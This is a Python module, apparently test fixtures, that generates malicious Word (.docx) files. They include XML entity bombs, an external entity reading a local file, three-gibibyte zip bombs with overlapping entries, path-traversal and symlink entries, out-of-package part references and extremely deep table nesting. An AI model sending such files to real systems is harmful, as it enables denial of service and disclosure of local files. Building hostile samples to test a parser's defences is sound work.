"""Word files made to harm whoever opens them. Each function returns the bytes of one."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

from .hostile import MEBIBYTE, WORDS, laughs, zeros

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def docx_of(document: str, *, doctype: str = "", extra: Mapping[str, bytes] | None = None) -> bytes:
    """Returns a Word file with this in its body."""
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml"
    parts = {
        "[Content_Types].xml": (
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{kind}.document.main+xml"/>'
            f'<Override PartName="/word/styles.xml" ContentType="{kind}.styles+xml"/></Types>'
        ).encode(),
        "_rels/.rels": (
            f'<Relationships xmlns="{RELATIONSHIPS}"><Relationship Id="r1" Type="{OFFICE}/officeDocument" '
            'Target="word/document.xml"/></Relationships>'
        ).encode(),
        "word/_rels/document.xml.rels": (
            f'<Relationships xmlns="{RELATIONSHIPS}"><Relationship Id="r1" Type="{OFFICE}/styles" '
            'Target="styles.xml"/></Relationships>'
        ).encode(),
        "word/styles.xml": f'<w:styles xmlns:w="{W}"/>'.encode(),
        "word/document.xml": (
            f'<?xml version="1.0"?>{doctype}<w:document xmlns:w="{W}">'
            f"<w:body>{document}</w:body></w:document>"
        ).encode(),
    } | dict(extra or {})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def paragraph(words: str = WORDS) -> str:
    """Returns a paragraph of a Word file."""
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


def docx_of_laughs() -> bytes:
    """Returns a Word file with an entity bomb in its text."""
    return docx_of(paragraph("&a9;"), doctype=laughs())


def docx_with_laughs_in_its_styles() -> bytes:
    """Returns a Word file with an entity bomb in another part."""
    styles = f'<?xml version="1.0"?>{laughs()}<w:styles xmlns:w="{W}">&a9;</w:styles>'
    return docx_of(paragraph(), extra={"word/styles.xml": styles.encode()})


def docx_with_an_entity_of(path: str) -> bytes:
    """Returns a Word file with an entity that stands for the content of a file on this machine."""
    return docx_of(paragraph("Look: &file;"), doctype=f'<!DOCTYPE w [<!ENTITY file SYSTEM "file://{path}">]>')


def _packed_again(files: Mapping[str, tuple[bytes, int, int]], more: Mapping[str, str]) -> bytes:
    """Returns a zip archive of packed bytes, with the sizes and checksums given.

    more: further names, each for the bytes of an existing entry.
    """
    body, places, lines = b"", {}, b""
    for name, (packed, size, checksum) in files.items():
        about = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, checksum, len(packed), size, len(name), 0)
        places[name] = (about, len(body))
        body += b"PK\x03\x04" + about + name.encode() + packed
    names = {name: name for name in files} | dict(more)
    for name, of in names.items():
        about, place = places[of]
        about = about[:-4] + struct.pack("<HH", len(name), 0)
        lines += b"PK\x01\x02\x14\x00" + about + struct.pack("<HHHII", 0, 0, 0, 0, place) + name.encode()
    end = struct.pack("<HHHHIIH", 0, 0, len(names), len(names), len(lines), len(body), 0)
    return body + lines + b"PK\x05\x06" + end


def _with_text_of_gibibytes(size: int, more: Mapping[str, str]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(docx_of(paragraph()))) as sound:
        parts = {name: sound.read(name) for name in sound.namelist()}
    files = {
        name: (zlib.compress(data, 9)[2:-4], len(data), zlib.crc32(data)) for name, data in parts.items()
    }
    files["word/document.xml"] = (zeros(size)[2:], size * 1024 * MEBIBYTE, 0)
    return _packed_again(files, more)


def docx_of_gibibytes() -> bytes:
    """Returns a Word file whose text unpacks to three gibibytes."""
    return _with_text_of_gibibytes(3, {})


def docx_of_overlapping_entries() -> bytes:
    """Returns a Word file with a thousand names for the same packed stretch of three gibibytes."""
    return _with_text_of_gibibytes(3, {f"word/{i}.xml": "word/document.xml" for i in range(1000)})


def docx_of_many_entries() -> bytes:
    """Returns a sound Word file with fifty thousand empty entries added."""
    return docx_of(paragraph(), extra={f"word/{i}.xml": b"" for i in range(50_000)})


def docx_with_names_that_lead_out(target: str) -> bytes:
    """Returns entries whose names point outside the folder they are unpacked into, and one that is a link."""
    out = io.BytesIO(
        docx_of(paragraph(), extra={f"../../..{target}": b"x", target: b"x", f"word/..\\..{target}": b"x"})
    )
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, target)
    return out.getvalue()


def docx_with_a_part_outside(target: str) -> bytes:
    """Returns a Word file whose styles are declared to be in a file on this machine."""
    relation = f'<Relationship Id="r1" Type="{OFFICE}/styles" Target="../../../../..{target}"/>'
    data = f'<Relationships xmlns="{RELATIONSHIPS}">{relation}</Relationships>'.encode()
    return docx_of(paragraph(), extra={"word/_rels/document.xml.rels": data})


def docx_nested_deeply() -> bytes:
    """Returns tables nested ten thousand levels deep."""
    begin, end = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    return docx_of(begin * 10_000 + paragraph() + end * 10_000)


def docx_of_boxes_in_boxes() -> bytes:
    """Returns tables nested a hundred levels deep: few enough to be parsed, and read again at each level."""
    begin, end = "<w:tbl><w:tr><w:tc>" + paragraph(), "</w:tc></w:tr></w:tbl>"
    return docx_of(begin * 80 + end * 80)


WORD_FILES: dict[str, Callable[[], bytes]] = {
    f"{make.__name__}.docx": make
    for make in (
        docx_of_laughs,
        docx_with_laughs_in_its_styles,
        docx_of_gibibytes,
        docx_of_overlapping_entries,
        docx_of_many_entries,
        docx_nested_deeply,
        docx_of_boxes_in_boxes,
    )
}
